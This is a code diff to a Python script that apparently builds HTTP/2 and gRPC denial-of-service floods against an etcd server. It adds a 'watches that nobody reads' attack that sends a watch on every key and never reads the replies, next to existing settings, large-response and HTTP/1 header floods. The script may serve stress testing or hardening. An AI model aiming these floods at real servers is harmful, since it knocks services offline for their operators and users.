@@ -29,6 +29,10 @@ RANGE: Final = b"/etcdserverpb.KV/Range"
 PUT: Final = b"/etcdserverpb.KV/Put"
 # What the campaign puts there: an answer of 8 MiB.
 LARGE_RANGE: Final = rpc_pb2.RangeRequest(key=b"large/", range_end=b"large0").SerializeToString()
+WATCH: Final = b"/etcdserverpb.Watch/Watch"
+WATCH_ALL: Final = rpc_pb2.WatchRequest(
+    create_request=rpc_pb2.WatchCreateRequest(key=b"\0", range_end=b"\0", start_revision=1)
+).SerializeToString()
 IDLE_CONNECTIONS: Final = 200
 # Frames that are joined for one write, and how many of those before it begins anew.
 PIECES_PER_WRITE: Final = 500
@@ -189,6 +193,7 @@ def attacks() -> dict[str, Attack]:
         "settings, never reading": lambda target: flood(target, frames=FLOODS["settings"](PUT), reads=False),
         "answers that nobody reads": lambda target: flood(target, frames=large(), reads=False),
         "answers without a window": lambda target: flood(target, frames=large()),
+        "watches that nobody reads": lambda target: flood(target, frames=requests(WATCH, WATCH_ALL), reads=False),
         "noise": noise,
         "http1: endless head": partial(http1_flood, opening=b"GET / HTTP/1.1\r\n" + HTTP_HOST + b"a: ", more=b"b" * 99),
         "http1: many fields": partial(http1_flood, opening=b"GET / HTTP/1.1\r\n" + HTTP_HOST, more=b"a: b\r\n"),
